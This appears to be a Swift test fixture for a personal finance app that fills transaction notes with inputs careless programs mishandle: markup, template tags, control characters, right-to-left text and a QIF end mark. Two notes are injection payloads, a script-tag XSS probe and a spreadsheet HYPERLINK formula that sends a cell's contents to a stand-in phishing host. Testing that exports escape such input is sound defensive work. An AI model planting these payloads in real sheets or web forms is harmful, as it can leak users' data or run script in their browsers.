// Texts that careless programs choke on: markup, spreadsheet formulas, the end mark of QIF, template tags,
// line breaks, tabs, quotes, right-to-left scripts. They are where a person or a shop could have put them.

internal import Model

extension Scene {
  static let texts: [Scene] = [
    Scene(2024, 6, 1) { home, day in
      home.pay(.script, 1299, at: day.at(12, 0, 1, 40)) { $0.notes = "<script>alert(1)</script>" }
    },
    Scene(2024, 6, 8) { home, day in
      home.pay(.quoteComma, 845, at: day.at(12, 4, 1, 40)) {
        $0.notes = "=HYPERLINK(\"https://phish.example/?\"&A1,\"Click\")"
      }
    },
    Scene(2024, 6, 22) { home, day in
      home.pay(.templateTavern, 1860, at: day.at(20, 4, 1, 40)) {
        $0.notes = "{{#x}}round two{{/x}} {{{y}}} {{> page}}"
      }
    },
    Scene(2024, 7, 6) { home, day in
      home.pay(.longName, 2375, at: day.at(15, 4, 1, 40)) {
        $0.notes = "two lines:\nsecond, \"quoted\"\r\n^\nD06/07/2024\n\tT-1.00"
      }
    },
    Scene(2024, 7, 20) { home, day in
      home.post(
        home.drafts.person(
          .bramwell, -1250, notes: "+44 @home -1 =1+1 | ' \" ; \\ / & < > \u{2028}end",
          at: day.at(21, 4, 1, 40)))
    },
    Scene(2024, 8, 3) { home, day in
      home.post(
        home.drafts.person(
          .ofra, 2600, notes: "עבור הכרטיסים (2×£13) – thanks! שבת שלום", at: day.at(18, 4, 1, 40)))
    },
    Scene(2024, 8, 10) { home, day in
      home.post(
        home.drafts.fasterPayment(
          .windowgleam, -1800, reference: "^ INV/7, \"gutters\"", at: day.at(9, 4, 1, 40)))
    },
    Scene(2026, 6, 6) { home, day in
      home.pay(.script, 899, at: day.at(11, 0, 1, 40)) {
        $0.notes = "=1+1, \"ha\" <b>bold</b> 👩‍👩‍👧‍👦 #diy"
      }
    },
  ]
}
